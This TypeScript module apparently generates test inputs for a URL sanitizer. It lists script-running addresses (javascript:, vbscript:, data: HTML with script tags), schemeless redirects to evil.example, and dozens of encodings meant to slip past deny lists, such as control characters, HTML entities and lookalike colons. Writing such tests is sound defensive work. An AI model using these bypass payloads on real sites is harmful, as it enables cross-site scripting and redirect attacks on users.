import { pairs } from "./vector.ts";

/** Plain addresses that run a script. `@` stands for the script. */
const plain = [
  "javascript:@",
  "javascript://%0a@",
  "javascript://host.example/%0d%0a@",
  "javascript:void(@)",
  "javascript:'<script>@</script>'",
  "vbscript:@",
  "livescript:@",
  "mocha:@",
  "jscript:@",
  "data:text/html,<script>@</script>",
  "data:text/html;charset=utf-8,%3Cscript%3E@%3C/script%3E",
  "data:text/html;base64,BASE64",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@'/>",
  "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>@</script>",
  "data:text/javascript,@",
  "blob:@",
  "filesystem:@",
  "view-source:javascript:@",
  "feed:javascript:@",
  "jar:javascript:@!/",
  "wyciwyg://javascript:@",
  "about:javascript:@",
  "intent:@",
  "file:///javascript:@",
];

/** Addresses that look like paths but lead to another host. */
export const schemeless: readonly string[] = [
  "//evil.example",
  "///evil.example",
  "/\\evil.example",
  "\\\\evil.example",
  "\\/evil.example",
  "/\t/evil.example",
  "/\n/evil.example",
  "\t//evil.example",
  " //evil.example",
  "\u0001//evil.example",
  "/&Tab;/evil.example",
  "/&#9;/evil.example",
  "&sol;&sol;evil.example",
  "&bsol;/evil.example",
  "//evil&#46;example",
  "\\&#47;evil.example",
  "https:evil.example",
  "https:/evil.example",
  "http:\\\\evil.example",
];

export function plainAddresses(hit: string): string[] {
  return plain.map((address) => fill(address, hit));
}

function fill(address: string, hit: string): string {
  const program = `<script>${hit}</script>`;
  return address.replace("BASE64", btoa(program)).replaceAll("@", hit);
}

const spaces = [..."\t\n\r\f \u00a0\u1680\u180e\u2000\u2003\u2007\u200a\u200b"]
  .concat([..."\u2028\u2029\u202f\u205f\u3000\ufeff\u0000\u0001\u0008\u000b"])
  .concat([..."\u000e\u001b\u001f\u007f\u0085\u00ad\u200e\u2060"]);

/** Spellings of an address that a deny list misses but a browser understands. */
const disguises: readonly ((address: string) => string)[] = [
  (address) => address.toUpperCase().replace(/HIT(\(\d+\))/u, "hit$1"),
  (address) => address.replace(/^[a-z]+/u, alternate),
  ...spaces.map((space) => (address: string) => space + address),
  ...[..."\t\n\r\u0000\u00ad\u200b\ufeff"].map(
    (space) => (address: string) =>
      address.slice(0, 4) + space + address.slice(4),
  ),
  ...["\t", "\n", "\u0000", " "].map(
    (space) => (address: string) => address.replace(":", `${space}:`),
  ),
  (address) => address.replace(":", "\uff1a"),
  (address) => address.replace(":", "\ua789"),
  (address) => address.replace(/^[a-z]/u, (letter) => `%${hex(letter, 2)}`),
  (address) => address.replace(":", "%3a"),
  (address) => address.replace(/^j/u, "\u212a"),
  (address) => `\\${address}`,
  (address) => `./${address}`,
  (address) => `"${address}`,
  (address) => `url(${address})`,
  (address) => `https:${address}`,
  (address) => `x:y;${address}`,
];

/** Spellings with HTML character references, which Markdown resolves as well. */
const references: readonly ((address: string) => string)[] = [
  (address) => eachLetter(address, (letter) => `&#${code(letter)};`),
  (address) => eachLetter(address, (letter) => `&#x${hex(letter, 2)};`),
  (address) => eachLetter(address, (letter) => `&#X${hex(letter, 6)};`),
  (address) =>
    eachLetter(address, (letter) => `&#${code(letter).padStart(7, "0")};`),
  (address) => eachLetter(address, (letter) => `&#x${hex(letter, 2)}`),
  (address) =>
    eachLetter(address, (letter) => `&#${code(letter).padStart(7, "0")}`),
  (address) => address.replace(":", "&colon;"),
  (address) => address.replace(":", "&#58;"),
  (address) => address.replace(":", "&#x3a"),
  (address) => address.replace(/^.{4}/u, "$&&Tab;"),
  (address) => address.replace(/^.{4}/u, "$&&NewLine;"),
  (address) => address.replace(/^.{4}/u, "$&&#10;"),
  (address) => address.replace(/^.{4}/u, "$&&#x0D;"),
  (address) => address.replace(/^.{4}/u, "$&&#0;"),
  (address) => `&#1;${address}`,
  (address) => `&#14;  ${address}`,
  (address) => `&#160;${address}`,
  (address) => `&nbsp;${address}`,
  (address) => `&ZeroWidthSpace;${address}`,
  (address) => address.replace(":", "&amp;colon;"),
  (address) => address.replace(/^j/u, "&amp;#106;"),
  (address) => address.replaceAll("(", "&lpar;").replaceAll(")", "&rpar;"),
];

/** Addresses in disguise: `javascript:` in every spelling, each of the others in three. */
export function disguisedAddresses(hit: string): string[] {
  const all = [...disguises, ...references];
  const [first = "", ...others] = plainAddresses(hit);
  return [
    ...all.map((disguise) => disguise(first)),
    ...pairs(others, [0, 7, 13]).map(([address, step]) => {
      const place = (others.indexOf(address) * 3 + step) % all.length;
      return all[place]?.(address) ?? address;
    }),
  ];
}

function alternate(word: string): string {
  return [...word]
    .map((letter, place) => (place % 2 === 0 ? letter : letter.toUpperCase()))
    .join("");
}

function eachLetter(
  address: string,
  write: (letter: string) => string,
): string {
  const [scheme = ""] = address.split(":");
  return [...scheme].map(write).join("") + address.slice(scheme.length);
}

function code(letter: string): string {
  return String(letter.codePointAt(0));
}

function hex(letter: string, length: number): string {
  return (letter.codePointAt(0) ?? 0).toString(16).padStart(length, "0");
}
